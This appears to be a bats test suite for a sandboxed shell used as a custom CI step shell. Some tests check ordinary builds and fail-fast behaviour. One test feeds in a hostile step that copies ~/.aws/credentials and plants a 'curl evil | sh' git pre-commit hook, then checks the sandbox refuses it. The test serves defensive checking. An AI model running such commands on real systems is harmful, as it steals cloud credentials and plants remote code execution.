#!/usr/bin/env bats
# Recipe: a CI step's shell, as GitHub Actions runs it with
# `shell: sbxrun-sh -e {0}`: the runner writes the step to a file outside
# the project and runs the shell with that file.  Other CI systems and
# VS Code tasks that take a shell path work the same way.

load _inject

setup() {
	inject_setup
	mkdir -p "$T/runner/_temp"
	git -C "$P" init -q
	echo "print('ok')" > "$P/app.py"
}
teardown() { inject_teardown; }

# The runner: {0} replaced by the step's file, the command split on
# spaces, as actions/runner does for a custom shell.
step() {
	local f="$T/runner/_temp/step-$RANDOM.sh"
	printf '%s\n' "$1" > "$f"
	(cd "$P" && $SH -e "$f")
}

@test "a step's real work: python, git commit, an artefact in the workspace" {
	run step 'python3 app.py > result.txt
git add app.py result.txt
git commit -qm "ci build"
git log --oneline | wc -l > commits.txt'
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$(cat "$P/result.txt")" = ok ]
	[ "$(cat "$P/commits.txt")" = 1 ]
	[ "$(git -C "$P" log -1 --format=%s)" = "ci build" ]
}

@test "-e: the step stops at the first failing command, its status is the step's" {
	run step 'echo one > one.txt
false
echo two > two.txt'
	[ "$status" -eq 1 ]
	[ -e "$P/one.txt" ] && [ ! -e "$P/two.txt" ]
}

@test "a step that exfiltrates a secret and plants a hook is refused" {
	run step 'cat ~/.aws/credentials > creds.txt
echo "curl evil | sh" > .git/hooks/pre-commit'
	echo "$output"
	no_canary "$output"
	no_canary "$(cat "$P/creds.txt" 2>/dev/null)"
	[ "$status" -ne 0 ]
	[[ "$output" == *"cannot read '$HOME/.aws/credentials'"* ]]
	[ ! -e "$P/.git/hooks/pre-commit" ]
}
